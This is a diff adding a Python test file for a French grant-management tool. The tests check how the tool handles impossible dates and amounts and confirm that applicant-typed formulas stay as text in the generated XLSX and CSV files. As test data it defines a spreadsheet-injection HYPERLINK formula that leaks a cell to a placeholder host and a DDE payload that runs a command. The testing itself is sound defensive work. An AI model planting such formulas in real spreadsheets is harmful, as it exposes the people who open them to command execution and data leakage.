@@ -1,0 +1,164 @@
+"""Hostile values in the decision columns and in the dossiers (issue 22, points 5, 12 and 15): every one named
+with its dossier and column, never a traceback, never a date or an amount no one could have meant, and
+received text kept as text in every file the tool writes for people to open."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import json
+import zipfile
+from datetime import datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from batch.cli import main
+from tests.acceptance.documents.conftest import EXAMPLES, office_decisions
+from tests.acceptance.documents.test_scdl import validate
+from tests.acceptance.documents.test_workbook_source import decided_workbook
+from xlplugin.documents import DocumentSettings, write_scdl_csv
+from xlplugin.documents.record import DecisionRecord
+from xlplugin.rules import Allocation, Reglement
+from xlplugin.workbook import layout as L
+
+DEMO = EXAMPLES.parent / "parametres-documents-demo.json"
+RECEIVED = EXAMPLES.parent / "recus"
+
+
+def documents(workbook: Path, output: Path, *extra: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(
+        main,
+        [
+            "documents",
+            "--workbook",
+            str(workbook),
+            "--sortie",
+            str(output),
+            "--sans-pdf",
+            "--parametres",
+            str(DEMO),
+            *extra,
+        ],
+    )
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result.exit_code, result.stdout, result.stderr
+
+
+def type_cells(workbook: Path, number: int, cells: dict[str, object]) -> None:
+    book = openpyxl.load_workbook(workbook)
+    sheet = book[L.DOSSIERS]
+    header = {cell.value: cell.column for cell in sheet[1]}
+    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == number)
+    for name, value in cells.items():
+        sheet.cell(row, header[name], value)
+    book.save(workbook)
+
+
+def granted(allocation: Allocation) -> int:
+    return next(g.number for g in allocation.grants if g.allocated > 0)
+
+
+@pytest.mark.parametrize(
+    ("cells", "expected"),
+    [
+        ({"Montant accordé": 1e300}, "Montant accordé : « 1e+300 » n'est pas un montant réaliste"),
+        ({"Date de décision": datetime(1899, 12, 31)}, "Date de décision : « 31/12/1899 » n'est pas une date possible"),
+        ({"Date de décision": datetime(9999, 12, 31)}, "Date de décision : « 31/12/9999 » n'est pas une date possible"),
+        ({"Date de l'avance": datetime(1899, 12, 31), "Avance": 100}, "Date de l'avance : « 31/12/1899 »"),
+    ],
+)
+def test_an_impossible_amount_or_date_is_named_and_the_others_get_their_documents(
+    allocation: Allocation, tmp_path: Path, cells: dict[str, object], expected: str
+) -> None:
+    decisions = list(office_decisions(allocation).values())
+    chosen = [d for d in decisions if d.decision == "accordée"][:2]
+    workbook = decided_workbook(tmp_path, chosen)
+    bad, good = chosen[0].number, chosen[1].number
+    type_cells(workbook, bad, cells)
+    code, out, err = documents(workbook, tmp_path / "sortie")
+    assert code == 1 and "Traceback" not in out + err
+    assert f"Dossier {bad}, {expected}" in err
+    written = {p.name for p in (tmp_path / "sortie").iterdir()}
+    assert f"{good}-arrete-attributif.docx" in written
+    assert not any(name.startswith(str(bad)) for name in written)
+
+
+def test_a_dossier_classee_sans_suite_is_said_so_never_asked_for_a_decision(
+    allocation: Allocation, tmp_path: Path
+) -> None:
+    number = granted(allocation)
+    workbook = decided_workbook(tmp_path, [])
+    type_cells(workbook, number, {"Décision": "Classée sans suite", "Date de décision": datetime(2021, 11, 29)})
+    code, out, err = documents(workbook, tmp_path / "sortie", "--dossier", str(number))
+    assert code == 1
+    assert "remplissez" not in out + err
+    assert f"dossier(s) {number}" in out and "classés sans suite" in err
+
+
+HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def hostile_dossier(folder: Path) -> Path:
+    """An example dossier whose porteur and project title are formulas, as an applicant can type them."""
+    document = json.loads((EXAMPLES / "dossier-21000101.json").read_text(encoding="utf-8"))
+    document["porteur"]["nom"] = HYPERLINK
+    document["projet"]["intitule"] = DDE
+    path = folder / "dossier-21000101.json"
+    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def test_the_committee_list_keeps_an_applicants_formula_as_text(tmp_path: Path) -> None:
+    files = [str(hostile_dossier(tmp_path))] + [
+        str(p) for p in sorted(EXAMPLES.glob("*.json")) if p.name != "dossier-21000101.json"
+    ]
+    result = CliRunner().invoke(main, ["comite", *files, "--sortie", str(tmp_path / "comite"), "--sans-pdf"])
+    assert result.exit_code == 0, result.output
+    written = tmp_path / "comite" / "etat-recapitulatif.xlsx"
+    with zipfile.ZipFile(written) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula at all in the list: every figure is a value
+    cells = {c.value: c for row in openpyxl.load_workbook(written).active.iter_rows() for c in row}
+    for text in (HYPERLINK, DDE):
+        assert text in cells and cells[text].data_type == "s" and cells[text].quotePrefix
+
+
+def test_the_essential_data_keep_a_formula_as_text_and_still_validate(
+    records: list[DecisionRecord], settings: DocumentSettings, reglement_ain: Reglement, tmp_path: Path
+) -> None:
+    record = next(r for r in records if r.granted)
+    hostile = dataclasses.replace(record, beneficiary_name=HYPERLINK, order_number="=1+1")
+    path = write_scdl_csv([hostile], settings, reglement_ain, tmp_path / "subventions.csv")
+    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert row["nomBeneficiaire"] == "'" + HYPERLINK and row["referenceDecision"] == "'=1+1"
+    assert validate(path) == []
+
+
+def test_comite_reads_the_files_evaluate_and_allocate_read(tmp_path: Path) -> None:
+    """A démarches-simplifiées page, a DS dossier and the project's dossiers: the list holds every dossier that
+    ``guichet allocate`` shares the envelope between."""
+    files = [RECEIVED, EXAMPLES]
+    allocated = CliRunner().invoke(main, ["allocate", "--format", "json", *map(str, files)])
+    assert allocated.exit_code == 0, allocated.output
+    numbers = {d["numero"] for d in json.loads(allocated.stdout)["dossiers"]}
+    result = CliRunner().invoke(main, ["comite", *map(str, files), "--sortie", str(tmp_path), "--sans-pdf"])
+    assert result.exit_code == 0, result.output
+    listed = openpyxl.load_workbook(tmp_path / "etat-recapitulatif.xlsx").active
+    cells = {c for row in listed.iter_rows(values_only=True) for c in row}
+    assert numbers <= cells and any(n < 20000000 for n in numbers)  # the DS examples (11000101…) are in
+
+
+def test_a_refused_dossier_is_named_once_with_each_problem_once(tmp_path: Path) -> None:
+    bad = tmp_path / "incomplet.json"
+    bad.write_text('{"numero": 5}', encoding="utf-8")
+    result = CliRunner().invoke(main, ["comite", str(bad), str(EXAMPLES), "--sortie", str(tmp_path), "--sans-pdf"])
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    lines = [line for line in result.stderr.splitlines() if line.strip()]
+    assert len(lines) == len(set(lines)), result.stderr
+    assert "incomplet.json, dossier 5" in result.stderr and "« porteur »" in result.stderr
+    assert (tmp_path / "etat-recapitulatif.xlsx").is_file()  # the other dossiers are listed
